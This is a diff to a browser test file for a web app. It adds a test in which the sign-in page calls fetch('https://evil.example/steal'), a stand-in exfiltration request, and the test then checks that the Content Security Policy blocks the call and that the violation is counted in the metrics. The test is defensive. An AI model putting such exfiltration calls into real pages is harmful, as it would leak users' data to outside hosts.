@@ -54,6 +54,15 @@ test('threat: a text of a person becomes markup or a script — a browser with T
   expect(tried).toEqual(['markup', 'script', 'foreign', 'uploaded', 'policy'].map((name) => `${name} TypeError`));
 });
 
+test('what the policy of a page refuses is reported by the browser, and counted', async ({ page, request }) => {
+  await page.goto('/sign-in');
+  await page.evaluate(() => fetch('https://evil.example/steal').catch(() => null));
+  await expect(async () => {
+    const figures = await (await request.get('/api/metrics')).text();
+    expect(figures).toMatch(/^tessera_policy_violations_total\{directive="connect-src",by="page"\} [1-9]/m);
+  }).toPass();
+});
+
 test('the operator sees health and figures', async ({ page, account, phone, request }) => {
   const health = await request.get('/api/health');
   expect(health.status()).toBe(200);
